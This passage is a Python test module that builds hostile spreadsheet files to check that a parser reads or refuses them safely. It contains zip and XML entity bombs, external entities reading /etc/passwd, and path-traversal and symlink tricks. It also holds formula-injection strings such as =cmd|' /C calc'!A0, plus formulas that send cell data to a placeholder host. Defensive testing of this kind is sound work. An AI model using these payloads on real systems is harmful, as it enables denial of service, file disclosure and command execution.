"""Attacks, each a function that writes a file (or what looks like one) into a folder and gives its path.

What it may end in is told where it is registered: ``read``, ``refused``, or ``either`` where the
place that a limit stands at is our own choice.
"""

from __future__ import annotations

import os
import socket
import struct
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

from tests.hostile.zips import Member, bomb, members, zipped
from tests.unit.sheets import attacks as made
from tests.unit.sheets.packages import (
    MAIN,
    Content,
    doubled,
    minimal_parts,
    package,
    relationships,
    unpack,
    workbook,
    worksheet,
)
from xlplan.sheets.address import column_letters

Ending = Literal["read", "refused", "either"]
CELL = '<row r="1"><c r="A1" t="str"><v>kvar</v></c></row>'
SHEET = "xl/worksheets/sheet1.xml"
KEPT = "kvar"
"""A text that an attack which is read must not cost us."""
HEADINGS = ("Orsak", "Åtgärd", "När", "Vem")
LOL = "<!DOCTYPE lolz [<!ENTITY a 'lol'>" + "".join(
    f"<!ENTITY {name} '{f'&{before};' * 10}'>" for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
OUTSIDE = "<!DOCTYPE a [<!ENTITY i SYSTEM 'file:///etc/passwd'>]>"


@dataclass(frozen=True, slots=True)
class Attack:
    """An attack: how it is made, what it may end in."""

    make: Callable[[Path], Path]
    ending: Ending
    keeps: bool = False
    """Whether ``KEPT`` must be told, when it is read."""
    slow: bool = False
    """Whether it takes more than a second, which is for the long run of the tests."""


ATTACKS: dict[str, Attack] = {}


def _content(
    ending: Ending, *, suffix: str = ".xlsx", keeps: bool = False, slow: bool = False
) -> Callable[..., Callable[[], bytes]]:
    """Register a function that makes a file's bytes; the file is named after it."""

    def register(make: Callable[[], bytes]) -> Callable[[], bytes]:
        def write(folder: Path) -> Path:
            path = folder / f"{make.__name__}{suffix}"
            path.write_bytes(make())
            return path

        ATTACKS[make.__name__] = Attack(write, ending, keeps, slow)
        return make

    return register


def _place(ending: Ending, *, keeps: bool = False) -> Callable[..., Callable[[Path], Path]]:
    """Register a function that makes something in the file system itself."""

    def register(make: Callable[[Path], Path]) -> Callable[[Path], Path]:
        ATTACKS[make.__name__] = Attack(make, ending, keeps)
        return make

    return register


def xlsx(sheet: str = CELL, after: str = "", before: str = "", more: Mapping[str, Content] | None = None) -> bytes:
    """A workbook with one sheet, and more parts."""
    return package({**minimal_parts(worksheet(sheet, after, before)), **(more or {})})


def with_bomb(part: Member, shared: str = "", styles: str = "") -> bytes:
    """A workbook one of whose parts is a bomb."""
    parts = minimal_parts(CELL, shared=shared, styles=styles)
    return zipped([*(each for each in members(parts) if each.name != part.name), part])


def good() -> bytes:
    return xlsx()


def _texts(row: int, *texts: str) -> str:
    """The cells of a row, from column A on."""
    return "".join(f'<c r="{column_letters(n)}{row}" t="str"><v>{text}</v></c>' for n, text in enumerate(texts, 1))


# Bombs in parts that are needed


@_content("refused", slow=True)
def four_gigabytes_of_rows() -> bytes:
    return with_bomb(bomb(SHEET, b"<row/>", 4000, b"<worksheet><sheetData>"))


@_content("refused")
def four_gigabytes_that_claim_to_be_nine_bytes() -> bytes:
    return with_bomb(bomb(SHEET, b"<row/>", 4000, b"<worksheet><sheetData>", claimed=9))


@_content("refused")
def one_giant_text_node() -> bytes:
    return with_bomb(bomb(SHEET, b"a", 1000, b'<worksheet><sheetData><row r="1"><c t="str" r="A1"><v>'))


@_content("refused")
def one_giant_attribute() -> bytes:
    return with_bomb(bomb(SHEET, b"a", 1000, b'<worksheet a="'))


@_content("refused")
def one_giant_comment() -> bytes:
    return with_bomb(bomb(SHEET, b"a", 1000, b"<worksheet><!--"))


@_content("refused")
def one_giant_section_of_raw_text() -> bytes:
    return with_bomb(bomb(SHEET, b"a", 1000, b"<worksheet><sheetData><row><c><v><![CDATA["))


@_content("refused")
def one_giant_attribute_below_the_ratio() -> bytes:
    return xlsx(f'<row a="{made.salted("a", 12_000_000, 4000).replace("<!--", "").replace("-->", "")}"/>' + CELL)


@_content("refused")
def deep_nesting() -> bytes:
    return with_bomb(bomb(SHEET, b"<a>", 200, b"<worksheet>"))


@_content("refused")
def deep_nesting_in_the_workbook_part() -> bytes:
    return with_bomb(bomb("xl/workbook.xml", b"<a>", 10, b"<workbook>"))


@_content("refused")
def a_million_names_of_elements() -> bytes:
    return xlsx("".join(f"<n{number:x}/>" for number in range(300_000)))


@_content("refused")
def a_hundred_thousand_namespaces() -> bytes:
    spaces = " ".join(f'xmlns:a{number}="u:{number}"' for number in range(30_000))
    return package(minimal_parts(CELL) | {SHEET: f"<worksheet {spaces}/>"})


@_content("refused", slow=True)
def huge_table_of_texts() -> bytes:
    return with_bomb(bomb("xl/sharedStrings.xml", b"<si><t>a</t></si>", 2000, b"<sst>"), shared="<si/>")


@_content("either", keeps=True)
def table_of_texts_that_claims_four_billion() -> bytes:
    return package(minimal_parts(CELL, shared="<si><t>x</t></si>"))


@_content("refused")
def one_text_in_ten_thousand_cells() -> bytes:
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 10_001))
    return package(minimal_parts(rows, shared=f"<si><t>{'ab' * 400_000}</t></si>"))


@_content("read", slow=True)
def seven_thousand_rows_of_short_texts() -> bytes:
    """No plan at all, but each of its texts could be a heading."""
    return xlsx("".join(_texts(row, *(f"rad {row} kol {col}" for col in range(8))) for row in range(1, 7_001)))


@_content("refused", slow=True)
def more_short_texts_than_a_plan_has() -> bytes:
    return xlsx("".join(_texts(row, *(f"rad {row} kol {col}" for col in range(8))) for row in range(1, 20_001)))


@_content("refused")
def workbook_part_of_a_gigabyte() -> bytes:
    return with_bomb(bomb("xl/workbook.xml", b" ", 1000, b"<workbook>"))


@_content("refused", suffix=".ods", slow=True)
def content_bomb() -> bytes:
    head = f"{made.ROOT}><office:body><office:spreadsheet><table:table><table:table-row>".encode()
    parts = [Member.of("mimetype", made.ODS), bomb("content.xml", b"<table:table-cell/>", 2000, head)]
    return zipped(parts)


@_content("refused", suffix=".ods")
def content_of_one_text() -> bytes:
    head = f"{made.ROOT}><office:body><office:spreadsheet><table:table><table:table-row><table:table-cell><text:p>"
    return zipped([Member.of("mimetype", made.ODS), bomb("content.xml", b"a", 1000, head.encode())])


@_content("refused")
def kind_bomb() -> bytes:
    return zipped([*members(minimal_parts(CELL)), bomb("mimetype", b"a", 2000)])


# Bombs in parts that can be done without


@_content("either", keeps=True, slow=True)
def styles_bomb() -> bytes:
    return with_bomb(bomb("xl/styles.xml", b'<xf numFmtId="14"/>', 1000, b"<styleSheet><cellXfs>"), styles="<fonts/>")


@_content("either", keeps=True)
def bomb_of_notes() -> bytes:
    parts = minimal_parts(CELL) | {
        "xl/worksheets/_rels/sheet1.xml.rels": relationships(("rId1", "comments", "../comments1.xml"))
    }
    return zipped([*members(parts), bomb("xl/comments1.xml", b"<comment/>", 1000, b"<comments><commentList>")])


@_content("either", keeps=True)
def bomb_of_properties() -> bytes:
    return zipped([*members(minimal_parts(CELL)), bomb("docProps/core.xml", b"<a/>", 1000, b"<coreProperties>")])


@_content("either", keeps=True)
def bomb_of_relationships() -> bytes:
    part = bomb("xl/worksheets/_rels/sheet1.xml.rels", b'<Relationship Id="a"/>', 1000, b"<Relationships>")
    return zipped([*members(minimal_parts(CELL)), part])


@_content("either", keeps=True)
def bomb_of_content_types() -> bytes:
    return zipped([*members(minimal_parts(CELL)), bomb("[Content_Types].xml", b"<Default/>", 1000, b"<Types>")])


@_content("read", keeps=True)
def bomb_of_pictures() -> bytes:
    return zipped([*members(minimal_parts(CELL)), bomb("xl/media/image1.png", b"\0", 4000)])


@_content("read", keeps=True)
def zips_within_zips() -> bytes:
    inner = xlsx()
    for _ in range(8):
        inner = package({f"{number}.zip": inner for number in range(4)})
    return package(minimal_parts(CELL) | {"xl/embeddings/inner.zip": inner})


@_content("read", keeps=True)
def nested_quotes() -> bytes:
    formats = "".join(f'<numFmt numFmtId="{170 + n}" formatCode="{"&quot;" * (n * 50)}"/>' for n in range(400))
    looks = "".join(f'<xf numFmtId="{170 + n}"/>' for n in range(400))
    rows = "".join(f'<row r="{2 + n}"><c r="A{2 + n}" s="{n}"><v>45000</v></c></row>' for n in range(400))
    formula = f'<row r="500"><c r="A500"><f>{"&quot;" * 30_000}</f></c></row>'
    names = f"<definedNames><definedName name='a'>{chr(39) * 30_000}!$A$1</definedName></definedNames>"
    styles = f"<numFmts>{formats}</numFmts><cellXfs>{looks}</cellXfs>"
    return package(minimal_parts(CELL + rows + formula, styles=styles, inside=names))


@_content("read", keeps=True)
def formats_that_make_slow_patterns() -> bytes:
    codes = ("[" * 100_000, "\\" * 100_000, "0" * 100_000, "0 -" * 40_000, "_" * 100_000, "[h" * 50_000)
    formats = "".join(f'<numFmt numFmtId="{170 + n}" formatCode="{code}"/>' for n, code in enumerate(codes))
    looks = "".join(f'<xf numFmtId="{170 + n}"/>' for n in range(len(codes)))
    rows = "".join(f'<row r="{2 + n}"><c r="A{2 + n}" s="{n}"><v>45000.5</v></c></row>' for n in range(len(codes)))
    styles = f"<numFmts>{formats}</numFmts><cellXfs>{looks}</cellXfs>"
    return package(minimal_parts(CELL + rows, styles=styles))


# Directories of zips


@_content("refused")
def twenty_thousand_members() -> bytes:
    return zipped([*members(minimal_parts(CELL)), *(Member.of(f"xl/media/{n}.png", b"") for n in range(20_000))])


@_content("refused")
def members_that_share_their_bytes() -> bytes:
    data = bytearray(zipped(members(minimal_parts(*[CELL] * 3))))
    first = data.find(b"PK\x01\x02")
    place = first
    while place >= 0:
        struct.pack_into("<I", data, place + 42, 0)
        place = data.find(b"PK\x01\x02", place + 1)
    return bytes(data)


@_content("refused")
def directory_of_nine_exabytes() -> bytes:
    end = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, 1 << 62, 1 << 62, 1 << 62, 1 << 62)
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, len(xlsx()), 1)
    return xlsx() + end + locator + b"PK\x05\x06" + b"\xff" * 16 + bytes(2)


@_content("refused")
def doubled_member() -> bytes:
    return doubled(xlsx(), SHEET, "<worksheet/>")


@_content("refused")
def doubled_member_in_other_case() -> bytes:
    return doubled(xlsx(), SHEET.upper(), "<worksheet/>")


@_content("read", keeps=True)
def members_that_climb() -> bytes:
    names = ("../../../evil.xml", "/etc/cron.d/evil", "C:\\Windows\\evil.xml", "..\\..\\evil", "xl/../../../evil2")
    return package(minimal_parts(CELL) | dict.fromkeys(names, "x"))


@_content("either", keeps=True)
def members_with_odd_names() -> bytes:
    odd = (b"a\0b", b"", b"\xff\xfe", b"\n\x1b[31m", b"x" * 60_000, "\u202e".encode())
    return zipped([*members(minimal_parts(CELL)), *(Member(name, b"\3\0", 0) for name in odd)])


@_content("refused")
def sheet_that_leads_to_a_system_file() -> bytes:
    parts = minimal_parts(CELL)
    parts["xl/_rels/workbook.xml.rels"] = relationships(("rId1", "worksheet", "../../../../../../etc/passwd"))
    parts["xl/other.xml"] = parts.pop(SHEET)
    return package(parts)


@_content("refused")
def sheet_that_is_a_link() -> bytes:
    parts = minimal_parts(CELL)
    del parts[SHEET]
    return zipped([*members(parts), Member.of(SHEET, "/etc/passwd", mode=0o120777)])


@_content("refused")
def sheet_that_leads_to_itself() -> bytes:
    parts = minimal_parts(CELL)
    parts["xl/_rels/workbook.xml.rels"] = relationships(("rId1", "worksheet", "workbook.xml"))
    return package(parts)


# Entities


@_content("refused")
def a_billion_laughs() -> bytes:
    return package(minimal_parts(CELL) | {SHEET: f"<?xml version='1.0'?>{LOL}]><worksheet>&i;</worksheet>"})


@_content("refused")
def external_entity() -> bytes:
    return package(minimal_parts(CELL) | {"xl/workbook.xml": f"{OUTSIDE}<workbook>&i;</workbook>"})


@_content("refused")
def external_entity_in_the_texts() -> bytes:
    parts = minimal_parts(CELL, shared="<si/>")
    return package(parts | {"xl/sharedStrings.xml": f"{OUTSIDE}<sst><si><t>&i;</t></si></sst>"})


@_content("either", keeps=True)
def external_entity_in_the_links() -> bytes:
    links = relationships(("rId1", "officeDocument", "xl/workbook.xml"))
    return package(minimal_parts(CELL) | {"_rels/.rels": OUTSIDE + links})


@_content("either", keeps=True)
def external_entity_in_the_properties() -> bytes:
    return xlsx(more={"docProps/core.xml": f"{OUTSIDE}<coreProperties><title>&i;</title></coreProperties>"})


@_content("refused", suffix=".ods")
def laughs_in_content() -> bytes:
    body = made.content_xml(made.table("<table:table-row><table:table-cell><text:p>&i;"))
    return package({"mimetype": made.ODS, "content.xml": f"{LOL}]>{body}"})


@_content("refused", suffix=".fods")
def external_entity_in_a_flat_file() -> bytes:
    return f"<?xml version='1.0'?>{OUTSIDE}{made.content_xml('&i;')}".encode()


@_content("refused")
def type_declaration_in_another_encoding() -> bytes:
    return package(minimal_parts(CELL) | {SHEET: f"{OUTSIDE}<worksheet>&i;</worksheet>".encode("utf-16")})


# Sheets that claim much


@_content("read", keeps=True)
def cell_in_the_last_corner() -> bytes:
    far = '<row r="1048576"><c r="XFD1048576" t="str"><v>långt bort</v></c></row>'
    return xlsx(CELL + far, before='<dimension ref="A1:XFD1048576"/>')


@_content("read", keeps=True)
def cells_on_a_diagonal() -> bytes:
    rows = "".join(
        f'<row r="{4096 * n}"><c r="{column_letters(64 * n)}{4096 * n}"><v>1</v></c></row>' for n in range(1, 257)
    )
    return xlsx(CELL + rows)


@_content("read", keeps=True)
def cells_beyond_the_sheet() -> bytes:
    far = ("ZZZZ1", "ZZZZZZZZZZ1", "A99999999999999999999", "A0", "A-1", "XFE1", "A1048577", "1", "A", "", "Å1", "A1A1")
    cells = "".join(f'<c r="{address}" t="str"><v>bortom {n}</v></c>' for n, address in enumerate(far))
    rows = '<row r="99999999999999999999"><c t="str"><v>rad</v></c></row><row r="-1"><c t="str"><v>minus</v></c></row>'
    return xlsx(CELL + f"<row>{cells}</row>" + rows)


@_content("either", keeps=True, slow=True)
def a_million_styled_rows() -> bytes:
    return xlsx(CELL + "".join(f'<row r="{n}" s="1"/>' for n in range(2, 1_000_002)))


@_content("either", keeps=True)
def rows_with_one_styled_cell_at_the_edge() -> bytes:
    return xlsx(CELL + "".join(f'<row r="{n}"><c r="XFD{n}" s="1"/></row>' for n in range(2, 5_002)))


@_content("read", keeps=True)
def whole_sheet_merged() -> bytes:
    return xlsx(CELL, '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')


@_content("read", keeps=True)
def whole_sheet_merged_many_times() -> bytes:
    merges = '<mergeCell ref="A1:XFD1048576"/>' * 10_000
    return xlsx(CELL, f"<mergeCells>{merges}</mergeCells>")


@_content("read", keeps=True)
def whole_columns_merged_below_headings() -> bytes:
    """Headings of ours and merges to the sheet's end, which would be spread over every row."""
    head = _texts(1, *HEADINGS)
    rows = "".join(f'<row r="{n}"><c r="B{n}" t="str"><v>kvar {n}</v></c></row>' for n in range(2, 302))
    merges = "".join(f'<mergeCell ref="A{n}:A1048576"/>' for n in range(2, 2002))
    return xlsx(f'<row r="1">{head}</row>{rows}', f"<mergeCells>{merges}</mergeCells>")


@_content("read", keeps=True)
def whole_sheet_in_links_and_rules() -> bytes:
    ranges = "A1:XFD1048576"
    after = (
        f'<conditionalFormatting sqref="{ranges}"><cfRule type="expression"><formula>1</formula></cfRule>'
        f'</conditionalFormatting><dataValidations><dataValidation sqref="{ranges} {ranges}"/></dataValidations>'
        f'<hyperlinks><hyperlink ref="{ranges}" r:id="rId9"/></hyperlinks>'
    )
    return xlsx(CELL, after, '<cols><col min="1" max="16384" hidden="1"/></cols>')


@_content("refused")
def two_thousand_tabs() -> bytes:
    return package(minimal_parts(*[CELL] * 2000))


@_content("refused")
def two_thousand_tabs_of_one_part() -> bytes:
    sheets = "".join(f'<sheet name="F{n}" sheetId="{n}" r:id="rId1"/>' for n in range(2000))
    book = f'<workbook xmlns:r="r"><sheets>{sheets}</sheets></workbook>'
    return package(minimal_parts(CELL) | {"xl/workbook.xml": book})


@_content("read", keeps=True)
def a_thousand_tabs_with_headings() -> bytes:
    return package(minimal_parts(*[f'<row r="1">{_texts(1, *HEADINGS, KEPT)}</row>'] * 1000))


@_content("read", keeps=True)
def tabs_with_one_name() -> bytes:
    return package(minimal_parts(CELL, CELL.replace(KEPT, "två"), CELL, titles=["Blad", "Blad", "blad"]))


@_content("read", keeps=True, slow=True)
def thirty_thousand_rows_of_words() -> bytes:
    text = "Åtgärd {} för trygghet"
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="str"><v>{text.format(n)}</v></c></row>' for n in range(2, 30_000))
    return xlsx(CELL + rows)


@_content("refused")
def headings_on_every_row() -> bytes:
    rows = "".join(f'<row r="{n}">{_texts(n, *HEADINGS)}</row>' for n in range(2, 2002))
    return xlsx(CELL + rows)


@_content("read", keeps=True)
def headings_on_four_hundred_rows() -> bytes:
    return xlsx(CELL + "".join(f'<row r="{n}">{_texts(n, *HEADINGS)}</row>' for n in range(2, 402)))


@_content("either", keeps=True)
def a_thousand_columns_with_one_heading() -> bytes:
    return xlsx(f'{CELL}<row r="2">{_texts(2, "Orsak", "När", "Vem", *["Åtgärd"] * 16_000)}</row>')


@_content("read", keeps=True, slow=True)
def texts_as_long_as_a_cell_allows() -> bytes:
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="str"><v>{("Välj åtgärder som påverkar orsaken " * 950)[:32_767]}</v></c></row>'
        for n in range(2, 202)
    )
    return xlsx(CELL + rows)


@_content("read", keeps=True)
def numbers_that_are_hard_to_count() -> bytes:
    numbers = ("9" * 5000, "1e99999", "-1e308", "NaN", "INF", "1_000", "٣", "0x1f", "1e-400", " 7 ", "--1", "")
    cells = "".join(f'<c r="{column_letters(n)}2" s="{n % 2}"><v>{value}</v></c>' for n, value in enumerate(numbers, 1))
    index = "".join(f'<c r="{column_letters(n)}3" t="s"><v>{value}</v></c>' for n, value in enumerate(numbers, 1))
    styles = '<cellXfs><xf/><xf numFmtId="14"/></cellXfs>'
    rows = f'<row r="2">{cells}</row><row r="3">{index}</row>'
    return package(minimal_parts(CELL + rows, shared="<si><t>x</t></si>", styles=styles))


@_content("read", keeps=True)
def texts_that_are_hard_to_date() -> bytes:
    texts = ("9" * 4000, "2024-" * 5000, "vecka " * 5000, "1/" * 5000, "kvartal 99999999999", "(" * 9000, "år " * 9000)
    head = _texts(2, "Orsak", "Åtgärd", "När", "Uppföljning")
    rows = "".join(f'<row r="{n}">{_texts(n, *[text] * 4)}</row>' for n, text in enumerate(texts, 3))
    return xlsx(f'{CELL}<row r="2">{head}</row>{rows}')


@_content("read", suffix=".ods", keeps=True)
def a_billion_empty_cells() -> bytes:
    empty = '<table:table-cell table:number-columns-repeated="1000000000"/>'
    cell = f"<table:table-row><table:table-cell><text:p>{KEPT}</text:p></table:table-cell>{empty}</table:table-row>"
    rows = f'<table:table-row table:number-rows-repeated="1000000000">{empty}</table:table-row>'
    return made.ods(made.table(cell + rows))


@_content("refused", suffix=".ods")
def a_billion_filled_cells() -> bytes:
    cell = '<table:table-cell table:number-columns-repeated="1000000000"><text:p>x</text:p></table:table-cell>'
    return made.ods(made.table(f"<table:table-row>{cell}</table:table-row>"))


@_content("refused", suffix=".ods")
def a_billion_filled_rows() -> bytes:
    cell = "<table:table-cell><text:p>x</text:p></table:table-cell>"
    return made.ods(made.table(f'<table:table-row table:number-rows-repeated="1000000000">{cell}</table:table-row>'))


@_content("either", suffix=".ods", keeps=True)
def a_billion_blanks() -> bytes:
    cell = f'<table:table-cell><text:p>{KEPT}<text:s text:c="1000000000"/></text:p></table:table-cell>'
    return made.ods(made.table(f"<table:table-row>{cell}</table:table-row>"))


@_content("either", suffix=".ods", keeps=True)
def cell_that_spans_a_billion() -> bytes:
    spans = 'table:number-columns-spanned="1000000000" table:number-rows-spanned="1000000000"'
    cell = f"<table:table-cell {spans}><text:p>{KEPT}</text:p></table:table-cell>"
    return made.ods(made.table(f"<table:table-row>{cell}</table:table-row>"))


@_content("either", suffix=".ods", keeps=True)
def tables_within_tables() -> bytes:
    inner = f"<table:table-row><table:table-cell><text:p>{KEPT}</text:p>"
    for _ in range(40):
        inner += "<table:table><table:table-row><table:table-cell><text:p>inne</text:p>"
    inner += "</table:table-cell></table:table-row></table:table>" * 40
    return made.ods(made.table(f"{inner}</table:table-cell></table:table-row>"))


@_content("either", suffix=".ods", keeps=True)
def styles_that_lean_on_each_other() -> bytes:
    styles = "".join(
        f'<style:style style:name="s{n}" style:parent-style-name="s{(n + 1) % 1000}"/>' for n in range(1000)
    )
    cell = f'<table:table-cell table:style-name="s0"><text:p>{KEPT}</text:p></table:table-cell>'
    return made.ods(made.table(f"<table:table-row>{cell}</table:table-row>" * 2000), styles)


# Binary workbooks with garbage for sizes


@_content("refused", suffix=".xls")
def ring_of_sectors() -> bytes:
    """Each sector of the stream is followed by the first one, in a table as long as the file allows."""
    return _ring(12, 4 << 20)


@_content("refused", suffix=".xls")
def ring_of_small_sectors() -> bytes:
    return _ring(9, 8 << 20)


@_content("refused", suffix=".xls")
def ring_in_the_small_table() -> bytes:
    data = bytearray(made.compound(bytes(8 << 20)))
    struct.pack_into("<I", data, 56, 0xFFFFFFFF)  # every stream is below this size, so all are in the small table
    struct.pack_into("<I", data, 60, 0)
    directory = struct.unpack_from("<I", data, 48)[0]
    struct.pack_into("<I", data, 512 + directory * 512 + 116, 0)  # the small sectors lie where the stream was
    return bytes(data)


@_content("refused", suffix=".xls")
def ring_of_tables() -> bytes:
    data = bytearray(made.compound(bytes(8 << 20)))
    struct.pack_into("<II", data, 68, 0, 0xFFFFFFFF)
    return bytes(data)


@_content("refused", suffix=".xls")
def sectors_of_garbage_size() -> bytes:
    data = bytearray(made.xls(made.record(0x0203, struct.pack("<HHHd", 1, 1, 0, 1))))
    struct.pack_into("<HH", data, 30, 0xFFFF, 0xFFFF)
    return bytes(data)


@_content("either", suffix=".xls")
def records_of_garbage_size() -> bytes:
    return made.compound(made.record(0x0809, struct.pack("<HH", 0x0600, 5) + bytes(12)) + b"\x03\x02\xff\xff" * 50_000)


@_content("either", suffix=".xls")
def texts_of_garbage_size() -> bytes:
    texts = struct.pack("<II", 0xFFFFFFFF, 0xFFFFFFFF) + b"\xff\xff\x0c\xff\xff\xff\xff\xff\xff" + b"a" * 8000
    return made.xls(made.record(0x0204, struct.pack("<HHHH", 1, 1, 0, 0xFFFF)), texts=texts)


@_content("either", suffix=".xls")
def extent_of_garbage_size() -> bytes:
    extent = made.record(0x0200, struct.pack("<IIHHH", 0, 0xFFFFFFFF, 0, 0xFFFF, 0))
    merged = made.record(0x00E5, struct.pack("<H", 0xFFFF) + struct.pack("<HHHH", 0, 0xFFFF, 0, 0xFFFF) * 1000)
    return made.xls(extent + merged * 100 + made.record(0x0203, struct.pack("<HHHd", 1, 1, 0, 1)))


@_content("either", suffix=".xls")
def numbers_that_are_none() -> bytes:
    odd = (float("nan"), float("inf"), -1e308, 5e-324, -0.0)
    return made.xls(b"".join(made.record(0x0203, struct.pack("<HHHd", n, 1, 0, value)) for n, value in enumerate(odd)))


@_content("either", suffix=".xls")
def sheets_that_begin_anywhere() -> bytes:
    data = bytearray(made.xls(made.record(0x0203, struct.pack("<HHHd", 1, 1, 0, 1)), sheets=3))
    place = data.find(struct.pack("<HH", 0x0085, 10))
    struct.pack_into("<I", data, place + 4, 0xFFFFFFF0)
    return bytes(data)


@_content("either", suffix=".xlsb")
def binary_records_of_garbage_size() -> bytes:
    return made.xlsb(b"\x00\xff\xff\xff\x7f" + bytes(100))


@_content("either", suffix=".xlsb")
def binary_texts_of_garbage_size() -> bytes:
    row = made.brt(0, struct.pack("<IIHBBB", 1, 0, 0, 0, 0, 0))
    text = made.brt(17, struct.pack("<II", 0, 0xFFFFFFFE) + b"abc")
    return made.xlsb(row + text, texts=made.brt(19, b"\1\xff\xff\xff"))


@_content("either", suffix=".xlsb")
def binary_cells_beyond_the_sheet() -> bytes:
    row = made.brt(0, struct.pack("<IIHBBB", 0xFFFFFFFF, 0, 0, 0, 0, 0))
    cell = made.brt(5, struct.pack("<IId", 0xFFFFFFFF, 0, 1.5))
    merge = made.brt(176, struct.pack("<IIII", 0, 0xFFFFFFFF, 0, 0xFFFFFFFF))
    return made.xlsb(row + cell * 100 + merge * 1000)


@_content("refused", suffix=".xlsb")
def binary_bomb() -> bytes:
    rest = [part for part in members(unpack(made.xlsb(b""))) if part.name != b"xl/worksheets/sheet1.bin"]
    return zipped([*rest, bomb("xl/worksheets/sheet1.bin", b"\x0c\x04\0\0\0\0", 1000, made.brt(129))])


@_content("refused", suffix=".xls")
def random_bytes_that_begin_as_a_workbook() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + made._noise(3_000_000)


@_content("refused")
def zeros() -> bytes:
    return bytes(10_000_000)


@_content("refused")
def a_file_that_is_too_large() -> bytes:
    return bytes(60_000_000)


@_content("refused")
def markup_without_end() -> bytes:
    return b"<" * 5_000_000


# Things in the file system


@_place("read", keeps=True)
def link_to_a_workbook(folder: Path) -> Path:
    (folder / "egentlig.xlsx").write_bytes(good())
    (folder / "länk.xlsx").symlink_to("egentlig.xlsx")
    return folder / "länk.xlsx"


@_place("refused")
def link_to_itself(folder: Path) -> Path:
    (folder / "slinga.xlsx").symlink_to("slinga.xlsx")
    return folder / "slinga.xlsx"


@_place("refused")
def link_to_nothing(folder: Path) -> Path:
    (folder / "borta.xlsx").symlink_to("finns inte.xlsx")
    return folder / "borta.xlsx"


@_place("refused")
def link_to_a_system_file(folder: Path) -> Path:
    (folder / "system.xlsx").symlink_to("/etc/hostname")
    return folder / "system.xlsx"


@_place("refused")
def pipe_that_nobody_writes_to(folder: Path) -> Path:
    os.mkfifo(folder / "rör.xlsx")
    return folder / "rör.xlsx"


@_place("refused")
def socket_of_somebody(folder: Path) -> Path:
    here = Path.cwd()
    os.chdir(folder)  # a socket's path must be short
    try:
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind("uttag.xlsx")
    finally:
        os.chdir(here)
    return folder / "uttag.xlsx"


@_place("refused")
def device_of_zeros(folder: Path) -> Path:
    (folder / "nollor.xlsx").symlink_to("/dev/zero")
    return folder / "nollor.xlsx"


@_place("refused")
def device_of_chance(folder: Path) -> Path:
    (folder / "slump.xlsx").symlink_to("/dev/urandom")
    return folder / "slump.xlsx"


@_place("refused")
def file_that_may_not_be_read(folder: Path) -> Path:
    path = folder / "hemlig.xlsx"
    path.write_bytes(good())
    path.chmod(0)
    return path


@_place("read", keeps=True)
def folder_named_like_a_workbook(folder: Path) -> Path:
    (folder / "mapp.xlsx").mkdir()
    (folder / "mapp.xlsx" / "plan.xlsx").write_bytes(good())
    return folder / "mapp.xlsx"


@_place("refused")
def empty_folder(folder: Path) -> Path:
    (folder / "tom.xlsx").mkdir()
    return folder / "tom.xlsx"


@_place("refused")
def below_a_file(folder: Path) -> Path:
    (folder / "fil").write_bytes(b"")
    return folder / "fil" / "plan.xlsx"


@_place("refused")
def a_name_that_is_too_long(folder: Path) -> Path:
    return folder / ("x" * 4000 + ".xlsx")


def _named(name: str | bytes) -> Callable[[Path], Path]:
    """A good workbook under a bad name."""

    def make(folder: Path) -> Path:
        path = folder / os.fsdecode(name)
        path.write_bytes(good())
        return path

    return make


HOSTILE_NAMES: dict[str, str | bytes] = {
    "line break": "a\nfel XP999 hittepå.xlsx",
    "carriage return": "a\rb.xlsx",
    "escape": "\x1b[31m\x1b]0;titel\x07röd.xlsx",
    "bell and zero width": "a\x07\u200b\u200db.xlsx",
    "right to left": "plan\u202exslx.exe.xlsx",
    "isolates": "\u2066a\u2067b\u2069.xlsx",
    "as long as can be": "å" * 125 + ".xlsx",
    "dash": "-rf.xlsx",
    "option": "--help.xlsx",
    "not UTF-8": b"\xff\xfe\xe5.xlsx",
    "a surrogate of three bytes": b"\xed\xa0\x80.xlsx",
    "pattern": "*[a-z]?{1,2}.xlsx",
    "markup": "[bold red]x<script>.xlsx",
    "template": "{file} {0} %s ${HOME} `id`.xlsx",
    "blanks": "  .xlsx  ",
    "no ending": "plan",
    "other ending": "plan.exe",
    "home": "~.xlsx",
    "formula": "=cmd|' !A1.xlsx",
    "decomposed": "Hägersten-Älvsjö 1999 2099.xlsx",
}
ATTACKS |= {f"name: {kind}": Attack(_named(name), "read", keeps=True) for kind, name in HOSTILE_NAMES.items()}


# Texts that would run, and what runs

FORMULA_TEXTS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+46 70 123 45 67",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://example.invalid/?"&amp;A1;"klicka")',
    '=IMPORTXML(CONCAT("http://example.invalid/";A1))',
    "＝1+1",
    "';DROP TABLE plan;--",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)


def _plan(values: tuple[str, ...], kind: str = 't="str"', inner: str = "<v>{}</v>") -> str:
    """A table of ours in which each value is an action."""
    head = _texts(2, *HEADINGS)
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="str"><v>Orsak {n}</v></c><c r="B{n}" {kind}>{inner.format(value)}</c></row>'
        for n, value in enumerate(values, 3)
    )
    return f'{CELL}<row r="2">{head}</row>{rows}'


@_content("read", keeps=True)
def texts_that_look_like_formulas() -> bytes:
    return xlsx(_plan(FORMULA_TEXTS))


@_content("read", keeps=True)
def formulas_without_results() -> bytes:
    return xlsx(_plan(tuple(text.lstrip("=") for text in FORMULA_TEXTS), "", "<f>{}</f>"))


@_content("read", keeps=True)
def formulas_with_results() -> bytes:
    return xlsx(_plan(FORMULA_TEXTS, 't="str"', "<f>A1</f><v>{}</v>"))


@_content("read", keeps=True)
def external_links() -> bytes:
    parts = minimal_parts(
        _plan(("[1]Blad!A1", "cmd|' /C calc'!A0"), "", "<f>{}</f><v>7</v>"),
